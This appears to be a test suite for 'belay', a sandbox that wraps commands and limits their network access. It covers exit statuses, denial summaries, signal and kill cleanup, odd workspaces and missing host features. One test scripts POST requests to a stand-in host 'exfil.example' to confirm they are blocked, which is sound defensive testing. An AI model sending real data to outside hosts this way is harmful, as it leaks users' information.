// `belay run` as its user meets it: the command's status, the summary, Ctrl-C at any moment, a kill,
// workspaces that are not ordinary, and hosts that lack what a sandbox needs.

import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, expect } from 'vitest';
import { ORDINARY_UID, openSession, processesOn } from '../installed.ts';
import { verifies } from '../verifies.ts';
import { bridgeOf, processesBelow, processesWith, startBeating } from './beats.ts';
import { eventually, isAlive, NODE, openPlace, type Place } from './place.ts';
import { startUpstream, type Upstream } from './upstreams.ts';

/** An error is one line, and at most one hint. */
const ONE_ERROR = /^belay: error: [^\n]+\n(?:belay: hint: [^\n]+\n)?$/;

let upstream: Upstream;
let place: Place;

beforeAll(async () => {
  upstream = await startUpstream(['api.example']);
  place = await openPlace({ upstreams: { 'api.example': upstream } });
}, 60_000);

afterAll(async () => {
  await place?.[Symbol.asyncDispose]();
  await upstream?.[Symbol.asyncDispose]();
}, 60_000);

verifies(
  'run.status',
  'the status of the wrapped command passes through, and 128+n for a signal',
  async () => {
    const status = async (...command: string[]) => (await place.run([], command)).status;
    expect(await status('true')).toBe(0);
    expect(await status('sh', '-c', 'exit 7')).toBe(7);
    // An end that comes at once, again and again: whoever watches the sandbox must not outrun it.
    for (let i = 0; i < 10; i++) expect(await status('sh', '-c', 'exit 69')).toBe(69);
    expect(await status('sh', '-c', 'kill -TERM $$')).toBe(143);
    expect(await status('sh', '-c', 'kill -KILL $$')).toBe(137);
    const piped = await place.run([], ['cat'], { input: 'through\n' });
    expect(piped).toMatchObject({ status: 0, stdout: 'through\n' });
    const missing = await place.run([], ['no-such-program']);
    expect(missing.status).toBe(2);
    expect(missing.stderr).toMatch(ONE_ERROR);
  },
  { timeoutMs: 40_000 },
);

verifies(
  'run.summary',
  'a run ends with calls, denials and the lines that would allow them',
  async () => {
    const script = [
      ['request', 'https://api.example/'],
      ['request', 'https://exfil.example/a', { method: 'POST', body: 'x' }],
      ['request', 'https://exfil.example/b', { method: 'POST', body: 'x' }],
      ['request', 'http://odd.example:8080/'],
      ['request', 'https://registry.npmjs.org/left-pad'],
      ['request', 'http://10.1.2.3/'],
    ];
    const file = place.put('summary.json', JSON.stringify(script));
    const command = [NODE, join(place.workdir, 'probe.mjs'), file];
    const { stderr, status } = await place.session.belay([
      ...['run', '--allow', 'api.example', '--', ...command],
    ]);
    expect(status).toBe(0);
    const [first = '', ...denied] = stderr.trimEnd().split('\n');
    expect(first).toMatch(
      /^belay: r-\w{8}: 1 calls, 5 denied, \d+ B, .* first answer after \d+ ms; ledger at \d+$/,
    );
    expect(denied).toEqual([
      expect.stringMatching(/2x POST exfil\.example:443 .*--allow exfil\.example$/),
      expect.stringMatching(/1x GET odd\.example:8080 .*--allow odd\.example:8080$/),
      expect.stringMatching(/1x GET registry\.npmjs\.org:443 .*--allow npm-read$/),
      expect.stringMatching(/1x GET 10\.1\.2\.3:80 \([^)]*\)$/),
    ]);
  },
  { timeoutMs: 40_000 },
);

verifies(
  'run.ctrl-c',
  'Ctrl-C, SIGTERM and SIGKILL at any moment leave no process and no open run behind',
  async () => {
    const moments = [0, 40, 80, 150, 250, 400, 600, 900, 1_300];
    for (const [i, waitMs] of moments.entries()) {
      const marker = `600.0${i}${process.pid}`;
      const started = place.start([], ['sleep', marker]);
      await sleep(waitMs);
      const signal = (['SIGINT', 'SIGTERM', 'SIGKILL'] as const)[i % 3] as NodeJS.Signals;
      started.child.kill(signal);
      const late = sleep(10_000).then(() => expect.fail(`${signal} after ${waitMs} ms: no end`));
      const { status } = await Promise.race([started.ended, late]);
      // Before it listens for signals, Node ends by the signal itself.
      const expected = { SIGINT: 130, SIGTERM: 143 }[signal as 'SIGINT' | 'SIGTERM'] ?? null;
      expect([expected, null], `${signal} after ${waitMs} ms: ${started.stderr()}`).toContain(
        status,
      );
      await eventually(`end of the command (${signal} after ${waitMs} ms)`, () => {
        return processesWith(`sleep ${marker}`).length === 0 || undefined;
      });
    }
    await eventually('end of the last bridge', () => {
      return processesBelow(place.session.home).length === 0 || undefined;
    });
    const { runs } = await eventually('end of the last run', async () => {
      const status = await place.status();
      return status.runs.length === 0 ? status : undefined;
    });
    expect(runs).toEqual([]);
    // A run is gone before its closing entry is durable.
    await eventually('closing entry of each run', async () => {
      const entries = await place.entries();
      const named = (type: string) =>
        entries.flatMap((entry) => (entry.type === type ? [entry.run] : [])).sort();
      return named('run.close').join() === named('run.open').join() || undefined;
    });
    // What protected the workspace of a launcher that was killed goes with the next run.
    await place.run([], ['true']);
    const { stdout } = await place.session.exec(['ls', '-A'], { cwd: place.workdir });
    expect(stdout.split('\n').filter((name) => name.startsWith('.'))).toEqual([]);
  },
  { timeoutMs: 90_000 },
);

verifies(
  'run.kill',
  '`belay kill` ends a run, its processes and its connections within a second',
  async () => {
    const broken = Promise.withResolvers<number>();
    const flowing = Promise.withResolvers<void>();
    upstream.answer = (_request, reply) => {
      reply.on('close', () => broken.resolve(Date.now()));
      reply.write(Buffer.alloc(65_536));
      const timer = setInterval(() => {
        reply.write(Buffer.alloc(65_536));
        flowing.resolve();
      }, 20);
      reply.on('close', () => clearInterval(timer));
    };
    const agent = await startBeating(place, ['--allow', 'api.example'], 'https://api.example/');
    await flowing.promise;
    const bridge = bridgeOf(place, agent.run) as number;
    const killed = await place.session.belay(['kill', agent.run]);
    const killedMs = Date.now();
    expect(killed).toMatchObject({ status: 0 });
    expect(killed.stderr).toContain(agent.run);
    const { status, atMs } = await agent.ended;
    expect(status).toBe(5);
    expect(atMs - killedMs).toBeLessThan(1_000);
    expect((await broken.promise) - killedMs).toBeLessThan(1_000);
    expect(agent.beats().at(-1)).toBeLessThan(killedMs + 100);
    expect(isAlive(bridge)).toBe(false);
    expect(processesWith('beats.mjs')).toEqual([]);
    const entries = await place.entries(agent.run);
    expect(entries.map(({ type }) => type)).toContain('stop.set');
    expect(entries.at(-1)).toMatchObject({
      type: 'run.close',
      reason: expect.stringMatching(/killed/),
    });
    upstream.answer = (_request, reply) => void reply.end('ok\n');

    const unknown = await place.session.belay(['kill', 'r-zzzzzzzz']);
    expect(unknown.status).toBe(2);
    expect(unknown.stderr).toMatch(ONE_ERROR);
  },
  { timeoutMs: 40_000 },
);

verifies(
  'run.bad-workspace',
  'a read-only, linked or wrong workspace is handled with one line',
  async () => {
    const at = (name: string): string => join(place.workdir, name);
    const run = (workdir: string, ...command: string[]) =>
      place.run(['--workdir', workdir], command);
    mkdirSync(at('project'));
    writeFileSync(at('project/file.txt'), 'text\n', { mode: 0o644 });

    // A link is followed once, and the run is in what it points to.
    symlinkSync('project', at('link'));
    const linked = await run(at('link'), 'sh', '-c', 'pwd; echo new > made.txt');
    expect(linked).toMatchObject({ status: 0, stdout: `${at('project')}\n` });
    expect(readFileSync(at('project/made.txt'), 'utf8')).toBe('new\n');

    // A folder that nobody may write is read all the same.
    chmodSync(at('project'), 0o555);
    const script = 'cat file.txt; echo x > other.txt || echo refused';
    const readOnly = await run(at('project'), 'sh', '-c', script);
    chmodSync(at('project'), 0o755);
    expect(readOnly).toMatchObject({ status: 0, stdout: 'text\nrefused\n' });

    // A protected name that is a link cannot be protected.
    mkdirSync(at('project/hooks'));
    mkdirSync(at('project/.git'));
    symlinkSync('../hooks', at('project/.git/hooks'));
    const protectedLink = await run(at('project'), 'true');
    expect(protectedLink.status).toBe(69);
    expect(protectedLink.stderr).toMatch(ONE_ERROR);
    expect(protectedLink.stderr).toContain('.git/hooks');
    rmSync(at('project/.git'), { recursive: true });

    for (const wrong of [at('missing'), at('project/file.txt'), '/', place.session.home]) {
      const refused = await run(wrong, 'true');
      expect(refused.status, wrong).toBe(2);
      expect(refused.stderr, wrong).toMatch(ONE_ERROR);
    }
  },
  { timeoutMs: 40_000 },
);

verifies(
  'host.no-bwrap',
  'without bubblewrap: exit 69 and the line to type',
  async () => {
    await using other = await openPlace();
    // /usr/bin with everything but bwrap, in a mount namespace of the test's own.
    const hide = [
      'mount -t tmpfs none /mnt',
      'mkdir /mnt/real /mnt/fake',
      'mount --bind /usr/bin /mnt/real',
      'ln -s /mnt/real/* /mnt/fake/',
      'rm /mnt/fake/bwrap',
      'mount --bind /mnt/fake /usr/bin',
      'exec "$@"',
    ].join('\n');
    const alone =
      process.getuid?.() === 0
        ? ['unshare', '--mount']
        : ['unshare', '--user', '--map-current-user', '--keep-caps', '--mount'];
    const belay = [NODE, other.session.launcher, 'run', '--workdir', other.workdir, '--', 'true'];
    const hidden = [...alone, 'sh', '-ec', hide, 'hide', ...belay];
    const { status, stderr } = await other.session.exec(hidden);
    expect(stderr).toMatch(/^belay: error: .*bwrap.*$/m);
    expect(stderr).toMatch(/^belay: hint: .*apt-get install bubblewrap/m);
    expect(status).toBe(69);
    await other.session.belay(['down']);
    expect((await other.run([], ['true'])).status, 'with it').toBe(0);
  },
  { timeoutMs: 40_000 },
);

verifies(
  'host.no-userns',
  'without user namespaces: exit 69 and the reason',
  async () => {
    // Root's limit is the whole host's: an ordinary uid has one of its own.
    await using session = await openSession(process.getuid?.() === 0 ? { uid: ORDINARY_UID } : {});
    const none = 'echo 0 > /proc/sys/user/max_user_namespaces\nexec "$@"';
    const alone = ['unshare', '--user', '--map-current-user', '--keep-caps', 'sh', '-ec', none];
    const belay = [NODE, session.launcher, 'run', '--', 'true'];
    const { status, stderr } = await session.exec([...alone, 'none', ...belay]);
    expect(stderr).toMatch(/^belay: error: .*user namespace/m);
    expect(stderr).toMatch(/^belay: hint: /m);
    expect(status).toBe(69);
    // The daemon that it started lives in the same user namespace.
    await session.belay(['down']);
    await eventually('end of that daemon', () => {
      return processesOn(session.home).length === 0 || undefined;
    });
    expect((await session.belay(['run', '--', 'true'])).status, 'with them').toBe(0);
  },
  { timeoutMs: 40_000 },
);
